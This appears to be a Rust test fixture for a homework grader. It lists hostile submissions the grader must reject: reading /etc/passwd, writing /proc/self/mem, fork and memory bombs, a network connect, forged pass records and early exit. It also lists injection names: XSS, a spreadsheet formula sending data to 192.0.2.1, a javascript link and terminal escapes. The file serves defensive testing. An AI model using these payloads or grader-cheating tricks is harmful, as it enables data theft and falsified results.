//! What somebody hands in who wants a grade without the work: hostile sources, bundles and names.
//!
//! Each solves the tasks as the model solution does, so that only the abuse can be the reason why
//! it does not pass.

/// A hostile source: code that runs at the start of `list`.
pub(super) struct Trick {
    /// Its name in the table.
    pub(super) name: &'static str,
    /// Items beside the function.
    pub(super) beside: &'static str,
    /// Statements at the start of the function.
    pub(super) inside: &'static str,
    /// The reason that the verdict must name.
    pub(super) code: &'static str,
}

const fn trick(name: &'static str, code: &'static str, beside: &'static str, inside: &'static str) -> Trick {
    Trick { name, beside, inside, code }
}

pub(super) const TRICKS: [Trick; 24] = [
    trick(
        "proc_self_mem",
        "forbidden_source",
        "",
        "let _ = std::fs::OpenOptions::new().write(true).open(\"/proc/self/mem\");",
    ),
    trick("file_as_memory", "forbidden_source", "use std::fs::File;", "let _ = File::create(\"/tmp/rows\");"),
    trick("pipe_as_memory", "forbidden_source", "", "let _ = std::io::pipe();"),
    trick(
        "big_static",
        "outside_heap",
        "use std::sync::atomic::{AtomicU8, Ordering};\nstatic ROOM: [AtomicU8; 32 << 20] = [const { AtomicU8::new(0) }; 32 << 20];",
        "for at in (0..ROOM.len()).step_by(4096) { ROOM[at].store(1, Ordering::Relaxed); } std::hint::black_box(&ROOM);",
    ),
    trick(
        "stack_as_memory",
        "outside_heap",
        "fn deep(left: u32) -> u64 {\n    let room = std::hint::black_box([left as u8; 65_536]);\n    \
            let below = if left > 0 { deep(left - 1) } else { 0 };\n    below + u64::from(std::hint::black_box(&room)[9])\n}",
        "std::hint::black_box(deep(96));",
    ),
    trick("thread_that_stays", "outlived_call", "", "std::thread::spawn(|| loop { std::thread::park(); });"),
    trick("include_str", "forbidden_source", "", "std::hint::black_box(include_str!(\"/etc/passwd\"));"),
    trick(
        "include_bytes_hidden",
        "forbidden_source",
        "macro_rules! get { ($what:ident) => { $what!(\"/etc/passwd\") } }",
        "std::hint::black_box(get!(include_bytes));",
    ),
    trick("path_attribute", "forbidden_source", "#[path = \"/etc/passwd\"]\nmod outside;", ""),
    trick("exit", "no_record", "", "std::process::exit(0);"),
    trick(
        "record_on_stdout",
        "forged_record",
        "",
        "println!(\"heaplab-homework=1 task=required.list\\nbirths=1\\npeak_bytes=1\\nend\");",
    ),
    trick(
        "system_alloc",
        "forbidden_source",
        "use std::alloc::{GlobalAlloc, Layout, System};",
        "let _ = unsafe { System.alloc(Layout::new::<[u8; 4096]>()) };",
    ),
    trick("unsafe_block", "forbidden_source", "", "let _ = unsafe { std::ptr::read(&0_u8) };"),
    trick("extern_mmap", "forbidden_source", "extern \"C\" { fn mmap(); }", ""),
    trick("env", "forbidden_source", "", "std::hint::black_box(env!(\"PATH\"));"),
    trick("env_at_run_time", "forbidden_source", "", "let _ = std::env::vars().count();"),
    trick(
        "global_allocator",
        "forbidden_source",
        "#[global_allocator]\nstatic MINE: std::alloc::System = std::alloc::System;",
        "",
    ),
    trick("network", "forbidden_source", "", "let _ = std::net::TcpStream::connect(\"192.0.2.1:80\");"),
    trick("endless_loop", "timeout", "", "loop { std::hint::spin_loop(); }"),
    trick(
        "memory_bomb",
        "out_of_memory",
        "",
        "let mut bomb = Vec::new(); loop { bomb.push(vec![1_u8; 1 << 20]); }",
    ),
    trick(
        "fork_bomb",
        "fork_refused",
        "",
        "loop { let _ = std::process::Command::new(\"/bin/sh\").arg(\"-c\").arg(\"sleep 60\").spawn(); }",
    ),
    trick("output_flood", "output_flood", "", "loop { println!(\"{:0>4096}\", 7); }"),
    trick("names_a_dependency", "does_not_build", "", "let _ = heaplab_heap::region();"),
    trick("known_seed", "hard_coded", "", "let source = Source::new(20_260_809, source.len());"),
];

impl Trick {
    /// The text of `required.rs`.
    pub(super) fn source(&self) -> String {
        format!(
            "use crate::task::{{Row, Source}};\n{}\n\npub fn list(source: Source) -> Vec<Row> {{\n    {}\n    \
                (0..source.len()).map(|index| source.row(index)).collect()\n}}\n\n\
                pub fn generator(source: Source) -> impl Iterator<Item = Row> {{\n    (0..source.len()).map(move |index| source.row(index))\n}}\n",
            self.beside, self.inside
        )
    }
}

/// Names that are an attack on whatever shows them.
pub(super) const NAMES: [(&str, &str); 5] = [
    ("html_name", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("formula_name", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"grades\")"),
    ("markdown_name", "[pass](javascript:alert(1)) | 100 | **pass** |\n# pass"),
    ("terminal_name", "\u{1b}[2J\u{1b}[1;32mpass\u{1b}]0;root\u{7}"),
    ("turned_name", "\u{202e}ssap\u{2066}"),
];
